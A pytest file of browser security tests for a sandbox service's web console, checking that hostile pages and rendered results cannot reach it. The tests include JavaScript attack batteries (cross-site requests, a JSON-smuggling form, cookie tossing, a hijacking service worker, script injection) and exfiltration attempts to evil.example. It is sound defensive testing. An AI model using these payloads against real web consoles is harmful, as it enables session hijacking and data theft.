"""Real pages against the console in a real browser: of services in sandboxes, of other sites, and injected ones."""

from __future__ import annotations

import contextlib
import time
from collections.abc import AsyncIterator
from typing import Any, NamedTuple

import pytest
from aiohttp import web
from msgspec.structs import replace

from controlplane.api.app import ApiSettings
from controlplane.api.edge.addresses import signed_label
from tests.support.agent.live_agent import LiveAgent
from tests.support.browser import Tab, Tabs
from tests.support.server.api_server import API_KEY, SANDBOX_ID, Edge, serving
from tests.support.server.console import SIGN_IN
from tests.support.server.port_services import application

# A browser that says it resolves no names below localhost is not sent to the host name of a port.
STAYS = "Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15"
DOMAIN = "sandlot.example"  # of the console; ports are below `ports.` of it, so their pages are of the same site

# What a hostile page tries. Each attempt ends with what came of it: a text, or the name of an error.
ATTACKS = """async ({console: home, socket, name, port, sandbox}) => {
  const said = {origin: self.origin};
  const attempt = async (what, work) => {
    try { said[what] = String(await work()); } catch (error) { said[what] = error.name; }
  };
  const status = async (path, options) => (await fetch(home + path, options)).status;
  const body = JSON.stringify({image: {uri: "sandlot/python"}, entrypoint: ["true"]});
  await attempt("get", () => status("/v1/sandboxes", {credentials: "include"}));
  await attempt("get with the header", () =>
    status("/v1/sandboxes", {credentials: "include", headers: {"Sandlot-Console": "1"}}));
  await attempt("header without cookie", () => status("/v1/sandboxes", {headers: {"Sandlot-Console": "1"}}));
  await attempt("post", () =>
    status("/v1/sandboxes", {method: "POST", body, mode: "no-cors", credentials: "include"}));
  await attempt("delete", () => status(`/v1/sandboxes/${sandbox}`, {method: "DELETE", credentials: "include"}));
  await attempt("form", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "answer";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {action: home + "/v1/sandboxes", method: "post", enctype: "text/plain", target: "answer"});
    const field = document.createElement("input");
    Object.assign(field, {name: body.slice(0, -1) + ', "a": "', value: '"}'});
    form.append(field);
    document.body.append(form);
    frame.onload = () => resolve("sent");
    setTimeout(() => resolve("not sent"), 5000);
    form.submit();
  }));
  const opens = (path) => () => new Promise((resolve) => {
    const opened = new WebSocket(socket + path);
    opened.onopen = () => resolve("open");
    opened.onerror = () => resolve("refused");
  });
  await attempt("socket", opens(`/v1/sandboxes/${sandbox}/stream`));
  await attempt("terminal", opens(`/v1/sandboxes/${sandbox}/proxy/44772/pty/x/ws`));
  await attempt("frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = home + "/console/";
    frame.onload = () => resolve(frame.contentDocument === null ? "unreadable" : "readable");
    document.body.append(frame);
  }));
  await attempt("script", () => new Promise((resolve) => {
    const script = document.createElement("script");
    script.src = home + "/v1/console/sign-in";
    script.onload = () => resolve("loaded");
    script.onerror = () => resolve("refused");
    document.body.append(script);
  }));
  await attempt("worker", async () => (await navigator.serviceWorker.register("sw.js")).scope);
  await attempt("worker of all", async () => (await navigator.serviceWorker.register("sw.js", {scope: "/"})).scope);
  for (const where of ["", `; domain=${home.split("/")[2].split(":")[0]}`, "; path=/v1/console"])
    await attempt("cookie" + where, () => { document.cookie = `${name}=evil${where}`; return "tried"; });
  await attempt("parent", () => parent === self ? "none" : parent.document.title);
  await attempt("opener", () => opener === null ? "none" : opener.document.title);
  return said;
}"""


async def hostile(request: web.Request) -> web.Response:
    """A page that lets scripts do anything, and sets cookies by the console's names wherever it can."""
    answer = web.Response(text="<!doctype html><body>hostile</body>", content_type="text/html")
    for number in range(2):
        name = f"sandlot-console-{request.query.get('port', '')}" if number else "__Host-sandlot-console"
        answer.headers.add("Set-Cookie", f"{name}=evil; Path=/")
        answer.headers.add("Set-Cookie", f"{name}=evil; Path=/; Domain={DOMAIN}")
        answer.headers.add("Set-Cookie", f"{name}=evil; Path=/; Domain=localhost")
    return answer


async def worker(_: web.Request) -> web.Response:
    """A service worker that answers everything itself."""
    text = "addEventListener('fetch', (event) => event.respondWith(new Response('hijacked')));"
    return web.Response(text=text, content_type="text/javascript", headers={"Service-Worker-Allowed": "/"})


async def evil_script(_: web.Request) -> web.Response:
    """A script that leaves a mark if it runs."""
    return web.Response(text="window.evil = true;", content_type="text/javascript")


class Stage(NamedTuple):
    """A server with a console and a hostile service."""

    edge: Edge
    port: int  # of the service
    number: str  # of the server's own port

    def console(self, host: str) -> str:
        """The origin of the console under a name."""
        return f"http://{host}:{self.number}"

    def by_name(self, domain: str) -> str:
        """The address of the service by a host name below a domain."""
        moment, signature = self.edge.sign(self.port, int(time.time()) + 600)
        return f"http://{signed_label(SANDBOX_ID, self.port, moment, signature)}.{domain}:{self.number}/"

    def by_path(self, host: str) -> str:
        """The address of the service by path."""
        moment, signature = self.edge.sign(self.port, int(time.time()) + 600)
        return f"{self.console(host)}/v1/sandboxes/{SANDBOX_ID}/signed/{self.port}/{moment}/{signature}/"


@contextlib.asynccontextmanager
async def staged(settings: ApiSettings) -> AsyncIterator[Stage]:
    """Run the server and the service."""
    async with contextlib.AsyncExitStack() as stack:
        agent = await stack.enter_async_context(LiveAgent())
        edge = await stack.enter_async_context(serving(agent.link, settings))
        routes = (web.get("/", hostile), web.get("/sw.js", worker), web.get("/evil.js", evil_script))
        port = await stack.enter_async_context(application(*routes))
        yield Stage(edge, port, edge.address.rpartition(":")[2])


@pytest.fixture
async def stage(settings: ApiSettings) -> AsyncIterator[Stage]:
    """A server whose ports have names below localhost alone."""
    async with staged(settings) as stage:
        yield stage


@pytest.fixture
async def site(settings: ApiSettings) -> AsyncIterator[Stage]:
    """A server whose ports have names of the console's own site, which is not advised."""
    async with staged(replace(settings, port_domain=f"ports.{DOMAIN}")) as stage:
        yield stage


async def enter(tab: Tab, console: str) -> None:
    """Sign a person in, and open the console."""
    await tab.sign_in(console, API_KEY)
    await tab.page.goto(f"{console}/console/")
    await tab.page.get_by_text("ready").wait_for()


async def who(tab: Tab) -> int:
    """Ask, as a page of the console, who has signed in; return the status."""
    status = await tab.page.evaluate(
        "async (path) => (await fetch(path, {headers: {'Sandlot-Console': '1'}})).status", SIGN_IN
    )
    return int(status)


@pytest.mark.attack(
    "edge",
    "a page of a service, by path, by a name below localhost or by one of the console's site, reaches for the console "
    "by requests, forms, frames, sockets, workers and cookies, while a person is signed in",
    "nothing is read and nothing done, and the person stays signed in",
)
@pytest.mark.parametrize("place", ["path", "name", "same site"])
async def test_a_hostile_service_gets_nothing(place: str, stage: Stage, site: Stage, tabs: Tabs) -> None:
    if place == "same site":
        stage, console, page = site, site.console(DOMAIN), site.by_name(f"ports.{DOMAIN}")
    else:
        console = stage.console("localhost")
        page = stage.by_path("localhost") if place == "path" else stage.by_name("localhost")
    tab = await tabs.open(**({"user_agent": STAYS} if place == "path" else {}))
    await enter(tab, console)
    assert await who(tab) == 200
    attacker = await tabs.beside(tab)
    await attacker.page.goto(f"{page}?port={stage.number}")
    assert await attacker.page.get_by_text("hostile").is_visible()
    target = {
        "console": console,
        "socket": console.replace("http", "ws"),
        "name": f"sandlot-console-{stage.number}",
        "port": stage.number,
        "sandbox": SANDBOX_ID,
    }
    said: dict[str, str] = await attacker.page.evaluate(ATTACKS, target)

    is_opaque = place == "path"
    assert said["origin"] == ("null" if is_opaque else page.rstrip("/"))
    # Any page may read that a key is missing; none is answered as the person.
    assert said["get"] == "TypeError"
    assert said["get with the header"] == said["header without cookie"] == said["delete"] == "TypeError"
    assert said["post"] == "0"  # sent, and nothing is known of the answer
    assert said["socket"] == said["terminal"] == "refused"
    assert said["frame"] == "unreadable"
    assert said["script"] == "refused"
    assert said["parent"] == said["opener"] == "none"
    assert (said["worker"] == "SecurityError") is is_opaque or said["worker"].startswith(page)
    assert said["worker of all"] in ("SecurityError", "TypeError") or said["worker of all"].startswith(page)
    assert not any(frame.url.startswith(f"{console}/console") for frame in attacker.page.frames)
    assert stage.edge.creation.requests == []
    assert stage.edge.sandboxes.get(SANDBOX_ID) is not None
    await tab.page.reload()
    await tab.page.get_by_text("ready").wait_for()
    assert await who(tab) == 200
    assert await tab.page.evaluate("async () => (await navigator.serviceWorker?.getRegistrations() ?? []).length") == 0


async def test_the_battery_can_succeed(stage: Stage, tab: Tab) -> None:
    """From the console's own page, the same requests are answered."""
    console = stage.console("localhost")
    await enter(tab, console)
    said = await tab.page.evaluate(
        """async ([socket, sandbox]) => {
          const headers = {"Sandlot-Console": "1"};
          const got = (await fetch("/v1/sandboxes", {headers})).status;
          const body = JSON.stringify({image: {uri: "sandlot/python"}, entrypoint: ["true"]});
          const made = (await fetch("/v1/sandboxes", {method: "POST", headers, body})).status;
          const opened = await new Promise((resolve) => {
            const opened = new WebSocket(`${socket}/v1/sandboxes/${sandbox}/stream`);
            opened.onopen = () => { opened.close(); resolve("open"); };
            opened.onerror = () => resolve("refused");
          });
          return [got, made, opened];
        }""",
        [console.replace("http", "ws"), SANDBOX_ID],
    )
    assert said == [200, 202, "open"]
    assert len(stage.edge.creation.requests) == 1
    assert tab.trouble == []
    assert tab.hosts == {f"localhost:{stage.number}"}


@pytest.mark.attack(
    "edge",
    "a page of another domain that resolves to the server's address asks as the console does",
    "it is a stranger",
)
async def test_a_name_that_is_rebound_is_a_stranger(stage: Stage, tabs: Tabs) -> None:
    tab = await tabs.open()
    await enter(tab, stage.console(DOMAIN))
    rebound = await tabs.beside(tab)
    await rebound.page.goto(f"{stage.console('evil.example')}/console/")
    assert await who(rebound) == 401
    assert await who(tab) == 200


@pytest.mark.attack(
    "edge",
    "a tag or a handler that got into a page of the console runs a script of a service, of the API, of another host or "
    "its own",
    "the browser refuses each",
)
async def test_nothing_else_is_a_script_of_the_console(stage: Stage, tab: Tab) -> None:
    console = stage.console("localhost")
    await enter(tab, console)
    service = stage.by_path("localhost")
    # The strongest case: the attacker has the console's own policy for Trusted Types.
    await tab.page.evaluate("window.policy = trustedTypes.createPolicy('sandlot', {createScriptURL: (url) => url})")
    for source in (
        f"{service}evil.js",
        f"{stage.by_name('localhost')}evil.js",
        f"/v1/sandboxes/{SANDBOX_ID}/proxy/44772/files/download?path=/evil.js",
        "/console/frame",
        "/version",
        "//evil.example/evil.js",
        "data:text/javascript,window.evil = true",
    ):
        came = await tab.page.evaluate(
            """(source) => new Promise((resolve) => {
              const script = document.createElement("script");
              script.onload = () => resolve("loaded");
              script.onerror = () => resolve("refused");
              script.src = policy.createScriptURL(source);
              document.body.append(script);
            })""",
            source,
        )
        assert came == "refused", source
    told = await tab.page.evaluate(
        """async () => {
          await new Promise((resolve) => { setTimeout(resolve); }); // the driver itself may evaluate, a page may not
          const said = {};
          const attempt = (what, work) => {
            try { work(); said[what] = "done"; } catch (error) { said[what] = error.name; }
          };
          attempt("html", () => { document.body.innerHTML = "<img src=x onerror='window.evil = true'>"; });
          attempt("eval", () => eval("window.evil = true"));
          attempt("function", () => new Function("window.evil = true")());
          attempt("policy", () => trustedTypes.createPolicy("other", {}));
          attempt("handler", () => document.body.setAttribute("onclick", "window.evil = true"));
          attempt("inline", () => {
            const script = document.createElement("script");
            script.append("window.evil = true");
            document.body.append(script);
          });
          document.body.click();
          const base = document.createElement("base");
          base.href = "http://evil.example/";
          document.head.append(base);
          said.base = document.baseURI;
          return {...said, evil: window.evil};
        }"""
    )
    assert told["html"] == told["policy"] == "TypeError"
    assert told["eval"] in ("TypeError", "EvalError")
    assert told["function"] in ("TypeError", "EvalError")
    assert "evil" not in told or told["evil"] is None
    assert told["base"].startswith(console)
    assert tab.hosts == {f"localhost:{stage.number}"}


@pytest.mark.attack(
    "edge",
    "HTML that code has produced reaches out of the frame that shows it: for its parent, the API, other hosts",
    "it runs, and reaches none of them",
)
async def test_a_result_stays_in_its_frame(stage: Stage, tab: Tab) -> None:
    """Its scripts run, and its height is told. A result that is shown by `srcdoc` would run no script: it inherits."""
    console = stage.console("localhost")
    await enter(tab, console)
    result = """<p>result</p><script>(async () => {
      const said = {origin: self.origin};
      const attempt = async (what, work) => {
        try { said[what] = String(await work()); } catch (error) { said[what] = error.name; }
      };
      await attempt("parent", () => parent.document.title);
      const headers = {"Sandlot-Console": "1"};
      await attempt("fetch", async () => (await fetch("HOME/v1/sandboxes", {headers})).status);
      await attempt("cookie", () => document.cookie);
      await attempt("storage", () => localStorage.length);
      await attempt("top", () => { top.location = "http://evil.example/"; return "tried"; });
      await attempt("picture", () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("refused");
        image.src = "HOME/console/icon.svg";
      }));
      await attempt("popup", () => open("HOME/console/") === null ? "refused" : "opened");
      await attempt("eval", () => eval("1 + 1"));
      parent.postMessage({said}, "*");
    })()</script>""".replace("HOME", console)
    told: dict[str, Any] = await tab.page.evaluate(
        """(html) => new Promise((resolve) => {
          const frame = document.createElement("iframe");
          const told = {};
          addEventListener("message", ({source, origin, data}) => {
            if (source !== frame.contentWindow) return;
            if (data.ready) source.postMessage({html}, "*");
            Object.assign(told, data, {sender: origin});
            if (told.said && told.height) resolve(told);
          });
          frame.src = "/console/frame";
          document.body.append(frame);
        })""",
        result,
    )
    said = told["said"]
    assert (said["origin"], told["sender"]) == ("null", "null")
    assert said["parent"] == "SecurityError"
    assert said["fetch"] == "TypeError"
    assert said["cookie"] == said["storage"] == "SecurityError"
    assert said["picture"] == "refused"
    assert said["popup"] == "refused"
    assert said["eval"] == "2"
    assert told["height"] > 0
    assert tab.page.url == f"{console}/console/"
    assert tab.hosts == {f"localhost:{stage.number}"}


async def test_a_link_signs_in_from_its_fragment(stage: Stage, tab: Tab) -> None:
    """The browser sends the code in no address: the page reads it."""
    async with stage.edge.client() as client:
        told = (await client.post("/console/links", headers={"Host": f"localhost:{stage.number}"})).json()
    await tab.page.goto(told["url"])
    await tab.page.get_by_text("ready").wait_for()
    name = await tab.page.evaluate(
        """async () => {
          const code = new URLSearchParams(location.hash.slice(1)).get("code");
          const headers = {"Sandlot-Console": "1"};
          const answer = await fetch("/v1/console/sign-in", {method: "POST", headers, body: JSON.stringify({code})});
          return [(await answer.json()).name, document.cookie];
        }"""
    )
    assert name == ["key-1", ""]
    assert await who(tab) == 200
    (cookie,) = await tab.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")


SHOW = """(html) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  addEventListener("message", ({source, data}) => {
    if (source !== frame.contentWindow) return;
    if (data.ready) source.postMessage({html}, "*");
    if (data.said) resolve(data.said);
  });
  frame.src = "/console/frame";
  document.body.append(frame);
})"""


@pytest.mark.attack(
    "edge",
    "HTML that code without a network has produced carries a message out through the browser of the person who looks: "
    "by a navigation, a picture, a frame in the frame",
    "nothing is sent to another host",
)
async def test_a_result_carries_nothing_out(stage: Stage, tab: Tab) -> None:
    await enter(tab, stage.console("localhost"))
    for result in (
        """<link rel="prefetch" href="http://evil.example/prefetch"><iframe src="http://evil.example/inner"></iframe>
        <link rel="preload" as="image" href="http://evil.example/preload"><img src="http://evil.example/picture">
        <script>parent.postMessage({said: true}, "*")</script>""",
        "<script>parent.postMessage({said: true}, '*'); location = 'http://evil.example/?message'</script>",
        """<meta http-equiv="refresh" content="0; url=http://evil.example/">
        <script>parent.postMessage({said: true}, "*")</script>""",
    ):
        async with tab.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
            await tab.page.evaluate(SHOW, result)
    assert tab.hosts == {f"localhost:{stage.number}"}
    assert tab.page.url.startswith(stage.console("localhost"))


async def test_a_frame_by_srcdoc_would_run_no_script(stage: Stage, tab: Tab) -> None:
    """It inherits the policy of the console, sandboxed or not. So results have a page of their own."""
    await enter(tab, stage.console("localhost"))
    async with tab.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        ran = await tab.page.evaluate(
            """() => new Promise((resolve) => {
              const frame = document.createElement("iframe");
              addEventListener("message", () => resolve("ran"));
              frame.sandbox = "allow-scripts";
              frame.srcdoc = trustedTypes.createPolicy("sandlot", {createHTML: (html) => html})
                .createHTML("<script>parent.postMessage('ran', '*')</script>");
              frame.onload = () => resolve("silent");
              document.body.append(frame);
            })"""
        )
    assert ran == "silent"
